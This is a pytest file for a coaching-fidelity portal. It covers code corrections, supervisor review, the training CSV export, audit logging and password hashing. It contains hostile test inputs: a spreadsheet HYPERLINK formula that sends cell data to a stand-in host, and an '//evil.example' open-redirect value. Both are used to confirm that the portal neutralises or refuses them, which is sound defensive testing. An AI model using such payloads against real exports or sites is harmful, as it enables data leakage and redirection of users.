"""Feedback on codes from the coach to the supervisor to the training export, and the audit trail."""

import csv
import io
from datetime import timedelta

import pytest
from typer.testing import CliRunner

from mifidelity.cli import app as cli_app
from mifidelity.errors import MifidelityError
from mifidelity.outputs import write_session
from mifidelity.portal import accounts as accounts_module
from mifidelity.portal.accounts import Accounts, check_name, hash_password, verify_password
from mifidelity.portal.audit import Action, AuditLog
from mifidelity.portal.corrections import TRAINING_COLUMNS
from mifidelity.portal.tables import PortalStore, Role, utcnow

from portal.helpers import PRODUCTION_SCRYPT_N, Browser
from support.reports import fidelity_session


def test_a_coachs_correction_reaches_the_supervisor_and_the_export(fresh_app, tmp_path):
    coach, boss = Browser(fresh_app), Browser(fresh_app)
    coach.login("Coach A")
    boss.login("boss")
    form = coach.get("/sessions/a-first/utterances/3/feedback")
    assert form.status_code == 200 and "What would you like us to look at first?" in form.text
    assert 'value="question=closed"' in form.text and 'value="question=open"' not in form.text  # not the coder's own
    response = coach.post("/sessions/a-first/utterances/3/feedback",
                          {"proposal": "question=closed", "comment": "It can be answered yes or no."})
    assert response.status_code == 303 and response.headers["location"] == "/sessions/a-first/?sent=1#u3"
    coach.post("/sessions/a-first/utterances/5/feedback", {"proposal": "adherence=none", "comment": "just information"})
    assert "Feedback on codes in this session (2)" in coach.get("/sessions/a-first/").text

    review = boss.get("/corrections").text
    assert "Coach A" in review and "a-first" in review and "It can be answered yes or no." in review
    assert boss.get("/").text.count('class="count">2<') == 1  # the bar counts open disagreements
    assert boss.post("/corrections/1/decision", {"decision": "accept", "back": "/corrections"}).status_code == 303
    assert boss.post("/corrections/2/decision", {"decision": "reject", "back": "//evil.example"}).headers["location"] == "/corrections"
    assert boss.post("/corrections/1/decision", {"decision": "reject"}).status_code == 409  # decided already
    statuses = {c.id: c.status.value for c in fresh_app.state.portal.corrections.for_session("a-first")}
    assert statuses == {1: "accepted", 2: "rejected"}
    assert 'data-status="accepted"' in coach.get("/sessions/a-first/").text  # the coach sees the outcome

    out = fresh_app.state.portal.library.out_dir
    target = tmp_path / "corrections.csv"
    result = CliRunner().invoke(cli_app, ["corrections", "export", str(out), "--out", str(target)])
    assert result.exit_code == 0, result.output
    assert "1 utterances (1 accepted corrections)" in result.output
    rows = list(csv.DictReader(io.StringIO(target.read_text())))
    assert tuple(rows[0]) == TRAINING_COLUMNS and len(rows) == 1
    row = rows[0]
    assert (row["transcript_id"], row["utterance_id"], row["role"]) == ("a-first", "3", "coach")
    assert row["text"] == "What would you like us to look at first?" and row["question"] == "closed"
    assert row["main_behaviour"] == row["reflection"] == row["adherence"] == ""  # only what was agreed is labelled
    assert row["previous_client"] == "I want to cut down, the name of my sister is Philippa."
    assert oct(target.stat().st_mode & 0o777) == "0o600"


def test_invalid_proposals_are_refused(fresh_app):
    coach = Browser(fresh_app)
    coach.login("Coach A")
    for proposal in ("question=open", "question=sideways", "client_talk=change", "nonsense", "text=hello"):
        response = coach.post("/sessions/a-first/utterances/0/feedback", {"proposal": proposal})
        assert response.status_code == 400, proposal
    assert coach.post("/sessions/a-first/utterances/1/feedback", {"proposal": "client_talk=neutral"}).status_code == 303
    assert fresh_app.state.portal.corrections.for_session("a-first")[0].old_value == "change"


def test_export_skips_a_correction_whose_session_was_reprocessed(fresh_app, tmp_path):
    coach, boss = Browser(fresh_app), Browser(fresh_app)
    coach.login("Coach B")
    boss.login("boss")
    coach.post("/sessions/b-first/utterances/0/feedback", {"proposal": "question=closed"})
    boss.post("/corrections/1/decision", {"decision": "accept"})
    out = fresh_app.state.portal.library.out_dir
    changed = fidelity_session("b-first", 0.72, coach="Coach B")
    changed.utterances.loc[0, "text"] = "A different first question?"
    write_session(changed, out)
    result = CliRunner().invoke(cli_app, ["corrections", "export", str(out), "--out", str(tmp_path / "c.csv")])
    assert result.exit_code == 0 and "was reprocessed" in result.output
    assert (tmp_path / "c.csv").read_text().count("\n") == 1  # header only


def test_the_audit_trail_and_its_command(fresh_app):
    coach, boss = Browser(fresh_app), Browser(fresh_app)
    coach.login("Coach A", "wrong-password!")
    coach.login("Coach A")
    coach.get("/sessions/a-first/")
    coach.post("/sessions/a-first/utterances/0/feedback", {"proposal": "question=closed", "comment": "secret words"})
    boss.login("boss")
    boss.post("/corrections/1/decision", {"decision": "reject"})
    coach.post("/logout")
    events = AuditLog(fresh_app.state.portal.store).events()
    seen = [(e.action, e.username, e.session_id) for e in events]
    assert seen == [
        (Action.LOGIN_FAILED, "Coach A", None), (Action.LOGIN, "Coach A", None),
        (Action.VIEW_REPORT, "Coach A", "a-first"), (Action.CORRECTION_PROPOSED, "Coach A", "a-first"),
        (Action.LOGIN, "boss", None), (Action.CORRECTION_REJECTED, "boss", "a-first"), (Action.LOGOUT, "Coach A", None),
    ]
    assert "question open -> closed" in events[3].detail and "secret words" not in events[3].detail

    out = str(fresh_app.state.portal.library.out_dir)
    result = CliRunner().invoke(cli_app, ["audit", out])
    assert result.exit_code == 0 and result.output.count("\n") == 1 + len(events)
    assert "login-failed\tCoach A\ttestclient" in result.output
    tomorrow = (utcnow() + timedelta(days=1)).astimezone().date().isoformat()
    assert CliRunner().invoke(cli_app, ["audit", out, "--since", tomorrow]).output.count("\n") == 1
    assert CliRunner().invoke(cli_app, ["audit", out, "--since", "2000-01-01"]).output.count("\n") == 1 + len(events)
    assert CliRunner().invoke(cli_app, ["audit", out, "--since", "yesterday"]).exit_code == 2


# -- accounts ------------------------------------------------------------------------------------------

def test_passwords_are_salted_slow_scrypt_hashes():
    stored = hash_password("correct horse battery", n=accounts_module.SCRYPT_N)
    assert stored.startswith("scrypt$") and "correct horse" not in stored
    assert hash_password("correct horse battery") != hash_password("correct horse battery")  # salted
    assert verify_password("correct horse battery", stored) and not verify_password("correct horse batterY", stored)
    assert not verify_password("anything", "md5$abc") and not verify_password("anything", "garbage")


def test_the_production_cost_is_memory_hard_and_slow():
    import time

    assert (PRODUCTION_SCRYPT_N, accounts_module.SCRYPT_R, accounts_module.SCRYPT_P) == (2 ** 15, 8, 1)  # 32 MiB
    stored = hash_password("x" * 12, n=PRODUCTION_SCRYPT_N)
    assert stored.split("$")[1:4] == ["32768", "8", "1"]
    started = time.perf_counter()
    assert verify_password("x" * 12, stored)  # the cost travels with the hash
    assert time.perf_counter() - started > 0.02


@pytest.mark.parametrize("name", ["", " padded", "tab\there", "a/b", "..", "x" * 201, "new\nline"])
def test_account_names_are_checked(name):
    with pytest.raises(MifidelityError):
        check_name(name)


def test_the_users_command(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    runner = CliRunner()
    added = runner.invoke(cli_app, ["users", "add", "Coach A", "--out", str(out), "--role", "coach", "--password-stdin"],
                          input="long-enough-pass\n")
    assert added.exit_code == 0, added.output
    assert runner.invoke(cli_app, ["users", "add", "Coach A", "--out", str(out), "--role", "coach", "--password-stdin"],
                         input="long-enough-pass\n").exit_code == 2
    assert runner.invoke(cli_app, ["users", "add", "x", "--out", str(out), "--role", "admin", "--password-stdin"],
                         input="long-enough-pass\n").exit_code == 2
    assert runner.invoke(cli_app, ["users", "add", "y", "--out", str(out), "--role", "coach", "--password-stdin"],
                         input="short\n").exit_code == 2
    assert runner.invoke(cli_app, ["users", "add", "boss", "--out", str(out), "--role", "supervisor"],
                         input="long-enough-pass\nlong-enough-pass\n").exit_code == 0
    listed = runner.invoke(cli_app, ["users", "list", "--out", str(out)]).output
    assert listed.startswith("Coach A\tcoach") and "boss\tsupervisor" in listed
    assert runner.invoke(cli_app, ["users", "passwd", "Coach A", "--out", str(out), "--password-stdin"],
                         input="another-long-pass\n").exit_code == 0
    accounts = Accounts(PortalStore.for_out(out))
    assert accounts.authenticate("Coach A", "another-long-pass").role == Role.COACH
    assert accounts.authenticate("Coach A", "long-enough-pass") is None
    assert runner.invoke(cli_app, ["users", "remove", "Coach A", "--out", str(out)]).exit_code == 0
    assert runner.invoke(cli_app, ["users", "remove", "Coach A", "--out", str(out)]).exit_code == 2
    assert accounts.get("Coach A") is None
    actions = [e.action for e in AuditLog(PortalStore.for_out(out)).events()]
    assert actions == [Action.USER_ADDED, Action.USER_ADDED, Action.PASSWORD_CHANGED, Action.USER_REMOVED]
    assert oct((out / ".ledger.sqlite").stat().st_mode & 0o777) == "0o600"


def test_utterance_rows_are_cached_per_corrections_object_and_output_folder(tmp_path):
    import os

    from mifidelity.portal import corrections as corrections_module
    from mifidelity.portal.corrections import Corrections
    from mifidelity.portal.library import SessionLibrary
    from support.reports import coded_session

    assert not hasattr(corrections_module, "_utterance_cache")  # no module-wide cache shared by every portal
    libraries = []
    for name, text in (("one", "What brings you here?"), ("two", "How can I help?")):
        out = tmp_path / name
        write_session(coded_session([("coach", text, "open")], session_id="s", coach="Coach A"), out)
        os.utime(out / "s" / "session.json", ns=(1_000_000_000, 1_000_000_000))  # same folder, same version
        libraries.append(SessionLibrary(out))
    corrections = Corrections(PortalStore.for_out(tmp_path / "one"))
    texts = [corrections.utterances(lib, lib.all()["s"])[0].text for lib in libraries]
    assert texts == ["What brings you here?", "How can I help?"]
    assert corrections.utterances(libraries[0], libraries[0].all()["s"]) is corrections.utterances(
        libraries[0], libraries[0].all()["s"])  # cached


def test_export_neutralises_formula_cells_and_training_reads_them_back(fresh_app, tmp_path):
    """Utterance text that starts with = + - @ is shown as text by a spreadsheet, and read back as said (issue 27)."""
    from mifidelity.training.data import load_corrections

    out = fresh_app.state.portal.library.out_dir
    hostile = fidelity_session("b-first", 0.72, coach="Coach B")
    hostile.utterances.loc[0, "text"] = '=HYPERLINK("http://x.example/?"&A1,"click")'
    write_session(hostile, out)
    coach, boss = Browser(fresh_app), Browser(fresh_app)
    coach.login("Coach B")
    boss.login("boss")
    assert coach.post("/sessions/b-first/utterances/0/feedback", {"proposal": "question=closed"}).status_code == 303
    boss.post("/corrections/1/decision", {"decision": "accept"})
    target = tmp_path / "c.csv"
    result = CliRunner().invoke(cli_app, ["corrections", "export", str(out), "--out", str(target)])
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(io.StringIO(target.read_text())))
    assert row["text"] == "'" + '=HYPERLINK("http://x.example/?"&A1,"click")'  # a spreadsheet shows it, runs nothing
    assert load_corrections(target)["text"].tolist() == ['=HYPERLINK("http://x.example/?"&A1,"click")']
